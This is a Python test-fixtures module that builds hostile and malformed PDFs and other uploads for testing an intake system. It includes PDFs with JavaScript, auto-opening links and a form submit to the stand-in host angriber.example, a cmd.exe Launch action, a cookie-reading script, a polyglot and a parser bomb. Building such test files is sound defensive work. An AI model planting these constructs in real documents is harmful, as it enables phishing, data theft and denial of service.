"""Hostile and awkward files, made here from scratch: each is what a secretariat may really be
sent (or what an attacker would send), small enough to build in milliseconds."""

import io
import re
import zlib

import pikepdf
from PIL import Image

from tests.factories import pdf_bytes


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _edited(change, text="Bilag") -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes(text))) as pdf:
        change(pdf)
        return _saved(pdf)


def _annotation(pdf: pikepdf.Pdf, **fields) -> None:
    annotation = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Rect=[72, 600, 300, 620], **fields))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))


def _action(kind: str, **fields) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **fields)


def encrypted_user_password() -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes("Fortroligt"))) as pdf:
        return _saved(pdf, encryption=pikepdf.Encryption(owner="ejer", user="bruger"))


def encrypted_owner_password_only() -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes("Låst"))) as pdf:
        return _saved(pdf, encryption=pikepdf.Encryption(owner="ejer", user="",
                                                         allow=pikepdf.Permissions(extract=False)))


def javascript() -> bytes:
    def change(pdf):
        script = pdf.make_indirect(_action("/JavaScript", JS=pikepdf.String("app.alert(1)")))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("hej"), script])))
    return _edited(change)


def open_action() -> bytes:
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(_action(
            "/URI", URI=pikepdf.String("https://angriber.example/")))
    return _edited(change)


def additional_actions() -> bytes:
    def change(pdf):
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_action(
            "/URI", URI=pikepdf.String("https://angriber.example/")))
    return _edited(change)


def launch() -> bytes:
    return _edited(lambda pdf: _annotation(pdf, Subtype=pikepdf.Name.Link, A=_action(
        "/Launch", F=pikepdf.String("cmd.exe"))))


def submit_form() -> bytes:
    return _edited(lambda pdf: _annotation(pdf, Subtype=pikepdf.Name.Widget, A=_action(
        "/SubmitForm", F=pikepdf.String("https://angriber.example/"))))


def import_data() -> bytes:
    return _edited(lambda pdf: _annotation(pdf, Subtype=pikepdf.Name.Widget, A=_action(
        "/ImportData", F=pikepdf.String("data.fdf"))))


def rich_media() -> bytes:
    return _edited(lambda pdf: _annotation(pdf, Subtype=pikepdf.Name.RichMedia,
                                           RichMediaContent=pikepdf.Dictionary()))


def embedded_file() -> bytes:
    def change(pdf):
        pdf.attachments["regneark.xlsm"] = pikepdf.AttachedFileSpec(pdf, b"makro", )
    return _edited(change)


def xfa() -> bytes:
    def change(pdf):
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(
            b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))
    return _edited(change)


def broken_xref() -> bytes:
    """Every offset of the cross-reference table off by one: pikepdf opens it (it rebuilds the
    table) but qpdf --check reports the damage."""
    data = pdf_bytes("Beskadiget")
    start = data.rindex(b"\nxref\n")
    table = data[start:]
    shifted = re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m[1]) + 1), table)
    return data[:start] + shifted


def truncated() -> bytes:
    data = pdf_bytes("Halv")
    return data[: len(data) // 2]


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(out, "JPEG")
    return out.getvalue()


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def png_html_polyglot() -> bytes:
    """A real PNG whose text chunk is an HTML page, followed by a PDF: an image to a viewer,
    a page to a sniffing browser, a PDF to a lenient reader."""
    out = io.BytesIO()
    image = Image.new("RGB", (8, 8), "white")
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("html", "<html><script>alert(1)</script></html>")
    image.save(out, "PNG", pnginfo=info)
    return out.getvalue() + pdf_bytes("Polyglot")


def without_text_layer() -> bytes:
    """A "scan": one page with an image and no text."""
    pdf = pikepdf.new()
    image = pdf.make_stream(zlib.compress(b"\x80" * 64 * 64), Type=pikepdf.Name.XObject,
                            Subtype=pikepdf.Name.Image, Width=64, Height=64,
                            ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8,
                            Filter=pikepdf.Name.FlateDecode)
    page = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842],
                              Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image)),
                              Contents=pdf.make_stream(b"q 500 0 0 700 48 70 cm /Im0 Do Q"))
    pdf.pages.append(pikepdf.Page(page))
    return _saved(pdf, deterministic_id=True)


def incremental_update(old_text: str, new_text: str) -> bytes:
    """A PDF whose page said `old_text`, then an incremental update (appended objects, a new
    cross-reference section with /Prev) that makes it say `new_text`. Readers show the new
    text; the old one is still in the file for anyone who looks."""
    base = pdf_bytes(old_text)
    with pikepdf.open(io.BytesIO(base)) as pdf:
        page = pdf.pages[0].obj
        page_number, font_number = page.objgen[0], page.Resources.Font.F1.objgen[0]
        parent_number, size = page.Parent.objgen[0], len(pdf.objects) + 1
        root_number = pdf.Root.objgen[0]
    prev = int(base[base.rindex(b"startxref") + 9:].split()[0])
    content = f"BT /F1 14 Tf 72 760 Td ({new_text}) Tj ET".encode("latin-1")
    new_contents = size
    body = io.BytesIO()
    body.write(base if base.endswith(b"\n") else base + b"\n")
    offsets = {}
    offsets[new_contents] = body.tell()
    body.write(b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
               % (new_contents, len(content), content))
    offsets[page_number] = body.tell()
    body.write(b"%d 0 obj\n<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources "
               b"<< /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>\nendobj\n"
               % (page_number, parent_number, font_number, new_contents))
    xref = body.tell()
    body.write(b"xref\n")
    for number in sorted(offsets):
        body.write(b"%d 1\n%010d 00000 n \n" % (number, offsets[number]))
    body.write(b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
               % (size + 1, root_number, prev, xref))
    return body.getvalue()


def parser_bomb(operators: int = 3_000_000) -> bytes:
    """A page whose compressed content stream of a few kilobytes holds millions of text
    operators: cheap to send, minutes of work for a text extractor."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font,
                                                Subtype=pikepdf.Name.Type1,
                                                BaseFont=pikepdf.Name.Helvetica))
    content = b"BT /F1 1 Tf " + b"(a) Tj " * operators + b"ET"
    stream = pdf.make_stream(zlib.compress(content, 9), Filter=pikepdf.Name.FlateDecode)
    page = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842],
                              Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
                              Contents=stream)
    pdf.pages.append(pikepdf.Page(page))
    return _saved(pdf, compress_streams=False)
